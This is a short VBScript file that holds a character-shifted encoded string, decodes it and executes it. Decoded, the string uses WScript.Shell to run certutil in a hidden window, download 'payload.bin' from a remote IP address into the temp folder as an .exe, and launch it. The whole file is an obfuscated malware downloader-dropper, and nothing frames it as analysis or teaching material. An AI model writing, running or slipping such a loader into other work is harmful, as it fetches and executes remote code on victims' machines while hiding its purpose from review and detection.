Dim s, o, i
s = "DsfbufPckfdu)#XTdsjqu/Tifmm#*/Svo!#dne!0d!dfsuvujm!.vsmdbdif!.g!iuuq;002:9/62/211/80qbzmpbe/cjo!&UFNQ&]b/fyf!'!tubsu!&UFNQ&]b/fyf#-!1"
o = ""
For i = 1 To Len(s)
  o = o & Chr(Asc(Mid(s, i, 1)) - 1)
Next
Execute o
